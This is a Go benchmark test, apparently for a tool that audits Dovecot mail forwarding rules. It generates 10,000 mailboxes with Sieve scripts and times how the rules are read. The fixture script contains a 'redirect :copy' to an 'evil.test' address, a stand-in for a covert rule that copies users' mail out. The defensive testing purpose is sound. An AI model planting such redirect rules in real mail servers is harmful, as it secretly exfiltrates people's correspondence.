package dovecot_test

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"relayguard/forward"
	"relayguard/forward/dovecot"
	"relayguard/forward/files"
)

// BenchmarkMailboxes plans and reads 10,000 virtual mailboxes, each with an
// active script, its link, and an inactive one.
func BenchmarkMailboxes(b *testing.B) {
	root := b.TempDir()
	write := func(name, text string) {
		path := filepath.Join(root, name)
		mkdir(b, filepath.Dir(path))
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	write("etc/dovecot/dovecot.conf", "protocol lmtp {\n mail_plugins = sieve\n}\nmail_home = /var/vmail/%d/%n\nuserdb {\n driver = static\n}\n")
	const mailboxes = 10_000
	script := "require [\"fileinto\",\"copy\"];\n# rule:[x]\nif allof (header :contains \"subject\" \"a\", not address :is \"from\" \"b@c.test\") { fileinto \"X\"; stop; }\nredirect :copy \"user%d@evil.test\";\n"
	for i := range mailboxes {
		home := fmt.Sprintf("var/vmail/d%d.test/user%d", i%100, i)
		write(home+"/sieve/main.sieve", fmt.Sprintf(script, i))
		write(home+"/sieve/old.sieve", "keep;")
		if err := os.Symlink("sieve/main.sieve", filepath.Join(root, home, ".dovecot.sieve")); err != nil {
			b.Fatal(err)
		}
	}
	f, err := files.Rooted(root)
	if err != nil {
		b.Fatal(err)
	}
	h := &forward.Host{Files: f}
	for b.Loop() {
		p := dovecot.Plan(b.Context(), h, dovecot.Options{})
		rules := 0
		for _, u := range p.Units {
			rules += len(u.Read(b.Context()).Rules)
		}
		if rules != mailboxes {
			b.Fatalf("%d rules of %d units", rules, len(p.Units))
		}
	}
	b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N)/mailboxes, "µs/mailbox")
}
